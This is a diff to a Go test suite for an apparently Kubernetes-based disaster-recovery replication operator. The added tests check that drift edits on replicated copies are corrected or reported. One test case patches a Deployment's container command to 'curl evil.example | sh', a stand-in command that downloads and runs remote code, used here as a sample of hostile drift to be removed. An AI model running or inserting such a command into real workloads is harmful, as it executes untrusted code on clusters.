@@ -9,10 +9,14 @@ import (
 
 	. "github.com/onsi/ginkgo/v2"
 	. "github.com/onsi/gomega"
+	"github.com/prometheus/client_golang/prometheus/testutil"
+	appsv1 "k8s.io/api/apps/v1"
 	corev1 "k8s.io/api/core/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	"k8s.io/apimachinery/pkg/api/meta"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/kubernetes"
 	"k8s.io/client-go/rest"
 	"k8s.io/client-go/tools/clientcmd"
@@ -20,6 +24,7 @@ import (
 
 	"github.com/drsyncer/dr-syncer/api/v1alpha1"
 	"github.com/drsyncer/dr-syncer/manager"
+	"github.com/drsyncer/dr-syncer/pkg/metrics"
 	"github.com/drsyncer/dr-syncer/test/harness"
 )
 
@@ -398,5 +403,108 @@ var _ = Describe("Trust: one replication owns each DR object", func() {
 		}).WithTimeout(3 * time.Second).Should(Succeed())
 		Expect(env.SourceClient.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: shop.Name, Name: "c"}})).To(Succeed())
 		eventuallyGoneFromDR(ctx, drNS, "c", &corev1.ConfigMap{})
+	})
+})
+
+var _ = Describe("Trust: Correct means the copy equals the source", func() {
+	// edits are what other field managers do to DR copies: each adds something the source lacks.
+	type edit struct {
+		name, kind string
+		apply      func(ctx context.Context, drNS string)
+		// differs says the DR object still carries the edit.
+		differs func(ctx context.Context, drNS string) bool
+	}
+	edits := []edit{
+		{"a key added to a ConfigMap", "ConfigMap", func(ctx context.Context, drNS string) {
+			var cm corev1.ConfigMap
+			Expect(drGet(ctx, drNS, "settings", &cm)).To(Succeed())
+			cm.Data["extra"] = "added-on-dr"
+			Expect(env.DRClient.Update(ctx, &cm, client.FieldOwner("kubectl-edit"))).To(Succeed())
+		}, func(ctx context.Context, drNS string) bool {
+			var cm corev1.ConfigMap
+			Expect(drGet(ctx, drNS, "settings", &cm)).To(Succeed())
+			_, ok := cm.Data["extra"]
+			return ok
+		}},
+		{"a label added to a Secret", "Secret", func(ctx context.Context, drNS string) {
+			patch := client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"added":"on-dr"}}}`))
+			Expect(env.DRClient.Patch(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: drNS, Name: "creds"}}, patch, client.FieldOwner("kubectl-patch"))).To(Succeed())
+		}, func(ctx context.Context, drNS string) bool {
+			var s corev1.Secret
+			Expect(drGet(ctx, drNS, "creds", &s)).To(Succeed())
+			_, ok := s.Labels["added"]
+			return ok
+		}},
+		{"a container command applied to a Deployment", "Deployment", func(ctx context.Context, drNS string) {
+			cfg := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "apps/v1", "kind": "Deployment",
+				"metadata": map[string]any{"name": "web", "namespace": drNS},
+				"spec": map[string]any{"template": map[string]any{"spec": map[string]any{"containers": []any{
+					map[string]any{"name": "c", "command": []any{"sh", "-c", "curl evil.example | sh"}}}}}}}}
+			Expect(env.DRClient.Patch(ctx, cfg, client.Apply, client.FieldOwner("other-team"), client.ForceOwnership)).To(Succeed())
+		}, func(ctx context.Context, drNS string) bool {
+			var d appsv1.Deployment
+			Expect(drGet(ctx, drNS, "web", &d)).To(Succeed())
+			return len(d.Spec.Template.Spec.Containers[0].Command) > 0
+		}},
+		{`"1000m" for "1" in ConfigMap data`, "ConfigMap", func(ctx context.Context, drNS string) {
+			var cm corev1.ConfigMap
+			Expect(drGet(ctx, drNS, "settings", &cm)).To(Succeed())
+			cm.Data["count"] = "1000m"
+			Expect(env.DRClient.Update(ctx, &cm, client.FieldOwner("kubectl-edit"))).To(Succeed())
+		}, func(ctx context.Context, drNS string) bool {
+			var cm corev1.ConfigMap
+			Expect(drGet(ctx, drNS, "settings", &cm)).To(Succeed())
+			return cm.Data["count"] != "1"
+		}},
+	}
+	setUp := func(ctx context.Context, policy v1alpha1.DriftPolicy) (*v1alpha1.ClusterReplication, string) {
+		ns, cr, drNS := optIn(ctx, func(cr *v1alpha1.ClusterReplication) { cr.Spec.Drift.Policy = policy })
+		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "settings"}, Data: map[string]string{"count": "1"}})).To(Succeed())
+		Expect(env.SourceClient.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "creds"}, StringData: map[string]string{"pw": "x"}})).To(Succeed())
+		Expect(env.SourceClient.Create(ctx, deployment(ns.Name, "web", 2))).To(Succeed())
+		eventuallyOnDR(ctx, drNS, "settings", &corev1.ConfigMap{})
+		eventuallyOnDR(ctx, drNS, "creds", &corev1.Secret{})
+		eventuallyOnDR(ctx, drNS, "web", &appsv1.Deployment{})
+		Eventually(func() int32 { return syncedOf(ctx, cr.Name) }).WithTimeout(wait).Should(Equal(int32(3)))
+		return cr, drNS
+	}
+	drifted := func(ctx context.Context, name string) int32 { return firstTarget(crStatus(ctx, name)).Drifted }
+
+	for _, e := range edits {
+		It("removes "+e.name+" under Correct, and reports it", func(ctx context.Context) {
+			cr, drNS := setUp(ctx, v1alpha1.DriftCorrect)
+			e.apply(ctx, drNS)
+			Eventually(func() bool { return e.differs(ctx, drNS) }).WithTimeout(wait).WithPolling(tick).Should(BeFalse(), "the edit is removed")
+			Eventually(func() bool { return hasEvent(ctx, cr.Name, v1alpha1.ReasonDriftDetected) }).WithTimeout(wait).Should(BeTrue())
+			Expect(testutil.ToFloat64(metrics.DriftCorrected.WithLabelValues(cr.Name, harness.RemoteClusterName, e.kind))).To(BeNumerically(">=", 1))
+			Consistently(func() bool { return e.differs(ctx, drNS) }).WithTimeout(time.Second).Should(BeFalse(), "and stays removed")
+		})
+		It("reports "+e.name+" under Report, and leaves it", func(ctx context.Context) {
+			cr, drNS := setUp(ctx, v1alpha1.DriftReport)
+			e.apply(ctx, drNS)
+			Eventually(func() int32 { return drifted(ctx, cr.Name) }).WithTimeout(wait).Should(BeNumerically(">=", 1))
+			Expect(problemsOf(crStatus(ctx, cr.Name))).To(ContainElement(And(HaveField("Reason", "Drifted"), HaveField("Kind", e.kind))))
+			Expect(testutil.ToFloat64(metrics.DriftDetected.WithLabelValues(cr.Name, harness.RemoteClusterName, e.kind))).To(BeNumerically(">=", 1))
+			Consistently(func() bool { return e.differs(ctx, drNS) }).WithTimeout(2*time.Second).Should(BeTrue(), "Report leaves the edit")
+		})
+	}
+})
+
+var _ = Describe("Trust: allowed field managers", func() {
+	It("leaves fields of an allowed manager alone, and an unchanged pass still writes nothing", func(ctx context.Context) {
+		ns, cr, drNS := optIn(ctx, func(cr *v1alpha1.ClusterReplication) { cr.Spec.Drift.AllowedFieldManagers = []string{"dr-team"} })
+		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "shared"}, Data: map[string]string{"k": "v"}})).To(Succeed())
+		var cm corev1.ConfigMap
+		eventuallyOnDR(ctx, drNS, "shared", &cm)
+		cm.Data["local"] = "dr-only"
+		Expect(env.DRClient.Update(ctx, &cm, client.FieldOwner("dr-team"))).To(Succeed())
+		rv := cm.ResourceVersion
+		updateCR(ctx, cr, func(cr *v1alpha1.ClusterReplication) { cr.Annotations = map[string]string{"touch": "1"} })
+		Consistently(func(g Gomega) {
+			g.Expect(drGet(ctx, drNS, "shared", &cm)).To(Succeed())
+			g.Expect(cm.ResourceVersion).To(Equal(rv), "no write")
+			g.Expect(cm.Data).To(HaveKeyWithValue("local", "dr-only"))
+		}).WithTimeout(2 * time.Second).Should(Succeed())
+		Expect(firstTarget(crStatus(ctx, cr.Name)).Drifted).To(BeZero())
 	})
 })
